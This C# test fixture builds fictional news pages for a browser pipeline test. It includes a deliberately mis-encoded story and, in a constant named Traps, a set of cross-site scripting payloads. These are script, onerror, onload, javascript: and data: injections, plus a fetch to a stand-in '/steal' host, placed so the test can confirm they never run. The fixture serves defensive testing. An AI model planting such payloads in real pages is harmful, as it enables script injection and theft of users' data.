using System.Globalization;
using System.Text;

namespace Pipeline.Browser.Tests.News;

/// <summary>
/// A small paper's inbox, all of it invented: pages of several sites and months, and what a browser test needs to find there.
/// </summary>
internal static class Newsroom
{
    public const string RepairedTitle = "Hill Town Holds Its Bridge as the River Rises";
    public const string StoryTitle = "Harbour Bridge Closes for Nine Months of Repairs";
    public const string EditedTitle = "Mayor Names Three Candidates for Police Chief";
    public const string TrapTitle = "Gardeners Trade Seeds at Saturday Market";

    private static readonly string[] Sites = ["Northshore Daily", "Valley Courier", "The Port Ledger"];

    /// <summary>How many of them become articles.</summary>
    public static int Articles => Files().Count(file => file.Path.StartsWith("wire/", StringComparison.Ordinal)) + 1;

    public static IEnumerable<(string Path, byte[] Content)> Files() =>
        Wire()
            .Select((text, number) => ($"wire/{number:00}.html", Encoding.UTF8.GetBytes(text)))
            .Append(("river.txt", Encoding.UTF8.GetBytes(Repaired)))
            .Concat(Failures);

    /// <summary>Read as windows-874 in eleven places, with three pieces of a page's furniture behind it.</summary>
    private const string Repaired = $"""
        {RepairedTitle}

        OSTERVIK — The hill town of Osterviken kept its only bridge open on Wednesday, though the river stood higher than at any time since the flood of 1963, the council said.

        The townโ€™s engineers had raised the eastern bank by forty centimetres overnight. “We have done what can be done with sand,” said Ingrid Halvorsen, who leads the riverโ€™s watch. The countyโ€™s rescue service brought six pumps and sent four of them on to Nedre Mo.

        Farmers above the town say that the dam at Langsjø let out too much at once. The damโ€™s owner, Fjellkraft, denies that. Its managers pointed to Mondayโ€™s rain, which was the heaviest of the year, and to snow that melted late.

        About ninety households on the low street were told to leave. Most went to the school; some stayed with neighbours. The schoolโ€™s gymnasium has beds for two hundred, and the headmasterโ€™s office serves as a kitchen. No one was hurt, and the doctorโ€™s boat was not needed.

        Halvorsen expects the peak on Thursday night. If the bridge has to close, the way round takes two hours over the pass, and the passโ€™s upper road is not cleared before May. The councilโ€™s last word for the day was that the bridge would be watched by lamp.

        Check Also

        Minister Opens New Ferry Berth at Sandnes

        The transport minister opened a berth on Tuesday that lets two ferries load at the same โ€ฆ

        Leave a Reply

        Your email address will not be published. Required fields are marked *
        """;

    private static readonly (string, byte[])[] Failures =
    [
        ("web/report.pdf", "%PDF-1.7\n1 0 obj\n<< /Type /Catalog"u8.ToArray()),
        ("web/empty.txt", []),
        (
            "web/front.html",
            "<html><head><title>Loading</title></head><body><script>start()</script><nav><a href=/>Home</a></nav></body></html>"u8.ToArray()
        ),
        (
            "web/shell.html",
            "<html><head><title>Please wait</title></head><body><script>go()</script><nav><a href=/>Start</a></nav></body></html>"u8.ToArray()
        ),
        ("letters/scan.bin", [.. Enumerable.Range(0, 3000).Select(number => (byte)(number * 7919 % 251))]),
    ];

    private static IEnumerable<string> Wire()
    {
        for (var copy = 0; copy < 3; copy++)
        {
            yield return Page(
                Sites[copy],
                StoryTitle,
                new DateTime(2024, 9, 12, 6 + copy, 30, 0),
                $"harbour-bridge-{copy}",
                [
                    .. Bridge,
                    .. copy == 0
                        ? []
                        : (string[])[$"{Sites[copy]} asked the harbour office for the full timetable and was told to wait until Friday."],
                ]
            );
        }

        yield return Page(Sites[1], EditedTitle, new DateTime(2024, 10, 2, 9, 0, 0), "police-chief", Candidates);
        yield return Page(
            Sites[1],
            EditedTitle,
            new DateTime(2024, 10, 2, 9, 0, 0),
            "police-chief",
            [
                .. Candidates[..2],
                "One of the three, Deputy Chief Owen Harker, withdrew his name on Thursday evening and gave no reason.",
                .. Candidates[2..],
            ],
            modified: new DateTime(2024, 10, 3, 20, 15, 0)
        );
        yield return Page(Sites[0], TrapTitle, new DateTime(2024, 5, 4, 11, 0, 0), "seeds", Seeds, Traps);
        var day = new DateTime(2024, 1, 8, 7, 15, 0);
        foreach (var (title, paragraphs) in Stories.All)
        {
            yield return Page(Sites[day.Day % 3], title, day, title.ToLowerInvariant().Replace(' ', '-'), paragraphs);
            day = day.AddDays(17).AddMinutes(83);
        }
    }

    private static readonly string[] Bridge =
    [
        "The harbour bridge closes to all traffic on Monday for nine months of repairs, the port authority of Port Miran said, and forty thousand cars a day will have to go by the tunnel.",
        "Engineers found cracks in eleven of the bridge's hangers during an inspection in June. None of them is dangerous today, said the authority's head of works, Marta Lindqvist, but none may be left over another winter.",
        "Pedestrians and bicycles may cross until the middle of October on the northern footway. After that a ferry goes every twelve minutes from the fish market, free of charge, from five in the morning until midnight.",
        "The works cost 61 million and are paid by the region. A firm from Valdoria won the contract; it mended the bridge at Ostrava Sound two years ago and finished three weeks early.",
    ];

    private static readonly string[] Candidates =
    [
        "Mayor Celia Brandt named three candidates for the office of police chief on Wednesday and asked the city council of Grenmark to hear all of them in public.",
        "The three are Captain Ruth Adeyemi, Deputy Chief Owen Harker and Commander Jonas Feld. All have served in Grenmark for more than fifteen years.",
        "The council hears them on three evenings in October and votes on the last. The seat has been empty since Chief Paul Winter left in the summer after a dispute over overtime.",
    ];

    private static readonly string[] Seeds =
    [
        "More than two hundred gardeners traded seeds on the market square on Saturday, and the organisers ran out of envelopes before noon.",
        "Beans went fastest. A blue pole bean that was thought lost turned up in three jam jars, said Tove Marken of the garden club, who had looked for it for nine years.",
        "The club plans a second market in autumn, for bulbs and cuttings, and asks for the loan of forty tables.",
    ];

    /// <summary>What must never run, nor ask another host for anything, however the article is shown.</summary>
    private const string Traps = """
        <script>document.title = 'trapped'; fetch('https://elsewhere.example/steal')</script>
        <img src="https://elsewhere.example/pixel.gif" onerror="document.title='trapped'">
        <p>Tables can be <a href="javascript:document.title='trapped'">offered here</a> or <a href="data:text/html,<script>document.title='trapped'</script>">by post</a>, and &lt;script&gt;document.title='trapped'&lt;/script&gt; stays text.</p>
        <svg onload="document.title='trapped'"></svg><iframe src="https://elsewhere.example/"></iframe>
        """;

    private static string Page(
        string site,
        string title,
        DateTime at,
        string slug,
        IEnumerable<string> paragraphs,
        string more = "",
        DateTime? modified = null
    )
    {
        var host = site.ToLowerInvariant().Replace(' ', '-');
        var address = $"https://{host}.example/{at.Year}/{slug}";
        return $"""
            <!DOCTYPE html><html lang="en"><head><title>{title} | {site}</title>
            <link rel="canonical" href="{address}"><meta property="og:site_name" content="{site}"><meta property="og:title" content="{title}">
            <meta property="article:published_time" content="{at.ToString("yyyy-MM-dd'T'HH:mm:ss'Z'", CultureInfo.InvariantCulture)}">
            {(
                modified is { } later
                    ? $"""<meta property="article:modified_time" content="{later.ToString("yyyy-MM-dd'T'HH:mm:ss'Z'", CultureInfo.InvariantCulture)}">"""
                    : ""
            )}
            </head><body><nav><a href="/">Home</a> <a href="/news">News</a> <a href="/sport">Sport</a></nav>
            <article><h1>{title}</h1><p class="byline">By {(host.Length % 2 == 0 ? "Nora Feldt" : "Per Lindgaard")}</p>{string.Concat(
                paragraphs.Select(text => $"<p>{text}</p>\n")
            )}{more}</article>
            <footer><a href="/about">About us</a> © {site}</footer></body></html>
            """;
    }
}
